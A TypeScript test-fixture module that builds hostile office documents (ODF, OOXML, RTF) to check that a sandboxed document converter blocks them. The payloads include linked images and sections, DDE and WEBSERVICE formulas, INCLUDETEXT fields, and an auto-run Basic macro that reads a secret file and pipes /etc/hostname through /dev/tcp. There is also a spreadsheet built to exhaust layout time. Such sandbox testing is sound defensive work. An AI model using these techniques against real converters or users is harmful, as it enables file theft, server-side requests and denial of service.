import { docx, esc, linkedPptx, xlsx, zip } from './office-corpus-ooxml.js';

/**
 * Hostile office documents, built here so the sandbox test knows what each
 * one reaches for: `file` is an address of a file outside the conversion
 * (the test writes its marker there), `web` an address on the test's own
 * HTTP listener. Each carries its own words too (`CORPUS-<name>`).
 */
export interface Reach {
  /** file:// of a folder holding secret.svg, secret.txt, secret.html and secret.csv. */
  file: string;
  /** http://127.0.0.1:<port> of the listener. */
  web: string;
}

export interface HostileDocument {
  name: string;
  extension: string;
  data: Buffer;
}

// ---- OpenDocument (odt, ods, and their flat XML forms) ----

const ODF_NS = [
  'office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"',
  'text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
  'table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"',
  'draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"',
  'svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"',
  'xlink="http://www.w3.org/1999/xlink"',
  'script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"',
  'of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"',
  'ooo="http://openoffice.org/2004/office"',
  'dom="http://www.w3.org/2001/xml-events"',
]
  .map((ns) => `xmlns:${ns}`)
  .join(' ');

const TYPES = {
  odt: 'application/vnd.oasis.opendocument.text',
  ods: 'application/vnd.oasis.opendocument.spreadsheet',
};

/** `body`: what goes in office:body; `head`: before it (scripts, events). */
function odfXml(root: string, body: string, head = '') {
  return (
    `<?xml version="1.0" encoding="UTF-8"?><office:${root} ${ODF_NS} office:version="1.3"` +
    (root === 'document' ? ` office:mimetype="${TYPES.odt}"` : '') +
    `>${head}<office:body>${body}</office:body></office:${root}>`
  );
}

function odf(kind: 'odt' | 'ods', body: string, head = '', extra: Array<[string, string]> = []) {
  const manifest =
    '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">' +
    `<manifest:file-entry manifest:full-path="/" manifest:media-type="${TYPES[kind]}"/>` +
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>' +
    extra
      .map(
        ([name]) =>
          `<manifest:file-entry manifest:full-path="${name}" manifest:media-type="text/xml"/>`,
      )
      .join('') +
    '</manifest:manifest>';
  return zip([
    ['mimetype', TYPES[kind]],
    ['META-INF/manifest.xml', manifest],
    ['content.xml', odfXml('document-content', body, head)],
    ...extra,
  ]);
}

const text = (name: string, inner: string) =>
  `<office:text><text:p>CORPUS-${name}</text:p>${inner}</office:text>`;

const linkedImage = (href: string) =>
  `<text:p><draw:frame draw:name="linked" text:anchor-type="as-char" svg:width="6cm" svg:height="3cm">` +
  `<draw:image xlink:href="${esc(href)}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`;

const linkedSection = (href: string, filter: string) =>
  `<text:section text:name="linked"><text:section-source xlink:href="${esc(href)}" xlink:type="simple" xlink:show="embed" text:filter-name="${filter}"/><text:p/></text:section>`;

const oleLink = (href: string) =>
  `<text:p><draw:frame draw:name="ole" text:anchor-type="as-char" svg:width="6cm" svg:height="3cm">` +
  `<draw:object xlink:href="${esc(href)}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`;

const sheet = (name: string, cells: string[]) =>
  `<office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell office:value-type="string"><text:p>CORPUS-${name}</text:p></table:table-cell></table:table-row>` +
  cells
    .map(
      (formula) =>
        `<table:table-row><table:table-cell table:formula="${esc(formula)}" office:value-type="string"><text:p></text:p></table:table-cell></table:table-row>`,
    )
    .join('') +
  '</table:table></office:spreadsheet>';

/** A Basic macro run when the document opens: it reads the secret and fetches the listener. */
function macroDocument(reach: Reach) {
  const module =
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">' +
    '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">' +
    esc(
      `Sub Main\n Dim sfa As Object\n sfa = CreateUnoService("com.sun.star.ucb.SimpleFileAccess")\n` +
        ` sfa.openFileRead("${reach.web}/macro")\n` +
        ` ThisComponent.Text.getEnd().setString(sfa.openFileRead("${reach.file}/secret.txt").readBytes(Array(), 100))\n` +
        ` Shell("/bin/sh", 0, "-c 'cat /etc/hostname > /dev/tcp/127.0.0.1/1'")\nEnd Sub\n`,
    ) +
    '</script:module>';
  const library =
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd">' +
    '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>';
  const container =
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">' +
    '<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>';
  const events =
    '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" ' +
    'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>';
  return odf('odt', text('macro', ''), events, [
    ['Basic/Standard/Module1.xml', module],
    ['Basic/Standard/script-lb.xml', library],
    ['Basic/script-lc.xml', container],
  ]);
}

/** An RTF with INCLUDETEXT and INCLUDEPICTURE fields (and a linked picture). */
function rtf(name: string, fields: string[]) {
  const body = fields
    .map((f) => `{\\field{\\*\\fldinst { ${f.replace(/\\/g, '\\\\')} }}{\\fldrslt {old}}}\\par`)
    .join('');
  return Buffer.from(
    `{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0 CORPUS-${name}\\par ${body}}`,
    'latin1',
  );
}

/**
 * The corpus: every document reaches for the secret files and the listener
 * in its own way. `pptx` is made from a library's deck (`base`), a linked
 * picture put into its first slide.
 */
export async function hostileCorpus(reach: Reach, pptxBase: Buffer): Promise<HostileDocument[]> {
  const { file, web } = reach;
  const doc = (name: string, extension: string, data: Buffer) => ({ name, extension, data });
  const flatText = odfXml(
    'document',
    text(
      'fodt',
      linkedImage(`${file}/secret.svg`) +
        linkedImage(`${web}/fodt.svg`) +
        linkedSection(`${file}/secret.html`, 'HTML (StarWriter)') +
        linkedSection(`${web}/fodt.html`, 'HTML (StarWriter)'),
    ),
  );
  const flatSheet = odfXml(
    'document',
    sheet('fods', [
      `of:=WEBSERVICE("${web}/fods")`,
      `of:=DDE("soffice";"${file}/secret.csv";"A1")`,
      `of:=['${file}/secret.csv'#$secret.A1]`,
    ]),
  ).replace(TYPES.odt, TYPES.ods);
  return [
    doc(
      'odt-picture-file',
      'odt',
      await odf('odt', text('odt-picture-file', linkedImage(`${file}/secret.svg`))),
    ),
    doc(
      'odt-picture-web',
      'odt',
      await odf('odt', text('odt-picture-web', linkedImage(`${web}/odt.svg`))),
    ),
    doc(
      'odt-section',
      'odt',
      await odf(
        'odt',
        text(
          'odt-section',
          linkedSection(`${file}/secret.html`, 'HTML (StarWriter)') +
            linkedSection(`${file}/secret.txt`, 'Text') +
            linkedSection(`${web}/section.html`, 'HTML (StarWriter)'),
        ),
      ),
    ),
    doc(
      'odt-ole',
      'odt',
      await odf('odt', text('odt-ole', oleLink(`${file}/secret.csv`) + oleLink(`${web}/ole.ods`))),
    ),
    doc('odt-macro', 'odt', await macroDocument(reach)),
    doc('fodt', 'fodt', Buffer.from(flatText)),
    doc('fodt-as-odt', 'odt', Buffer.from(flatText)),
    doc('fods', 'fods', Buffer.from(flatSheet)),
    doc(
      'ods-dde',
      'ods',
      await odf(
        'ods',
        sheet('ods-dde', [
          `of:=DDE("soffice";"${file}/secret.csv";"A1")`,
          `of:=WEBSERVICE("${web}/ods")`,
          `of:=['${file}/secret.csv'#$secret.A1]`,
        ]),
      ),
    ),
    doc(
      'docx',
      'docx',
      await docx(
        'docx',
        [`${file}/secret.svg`, `${web}/docx.svg`],
        [
          `INCLUDETEXT "${file.replace('file://', '')}/secret.txt"`,
          `INCLUDETEXT "${web}/docx.txt"`,
          `INCLUDEPICTURE "${web}/docx-field.svg" \\d`,
          `INCLUDEPICTURE "${file.replace('file://', '')}/secret.svg" \\d`,
        ],
      ),
    ),
    doc(
      'xlsx',
      'xlsx',
      await xlsx(
        'xlsx',
        [`_xlfn.WEBSERVICE("${web}/xlsx")`, `'${file}/[secret.csv]secret'!A1`],
        [`${file}/secret.svg`, `${web}/xlsx.svg`],
      ),
    ),
    doc('pptx', 'pptx', await linkedPptx(pptxBase, [`${file}/secret.svg`, `${web}/pptx.svg`])),
    doc(
      'rtf',
      'rtf',
      rtf('rtf', [
        `INCLUDETEXT "${file.replace('file://', '')}/secret.txt"`,
        `INCLUDEPICTURE "${web}/rtf.svg" \\d`,
        `INCLUDEPICTURE "${file.replace('file://', '')}/secret.svg" \\d`,
      ]),
    ),
  ];
}

/**
 * A spreadsheet of every cell of its sheet's largest range filled: laying
 * out its pages takes LibreOffice far longer than any time limit.
 */
export function endlessSheet(): Promise<Buffer> {
  return odf(
    'ods',
    '<office:spreadsheet><table:table table:name="S"><table:table-column table:number-columns-repeated="16384"/>' +
      '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>无尽</text:p></table:table-cell></table:table-row>' +
      '</table:table></office:spreadsheet>',
  );
}

/** A benign document with its own words: the control that the corpus's checks can fail. */
export function benignDocument(words: string): Promise<Buffer> {
  return odf('odt', `<office:text><text:p>${esc(words)}</text:p></office:text>`);
}
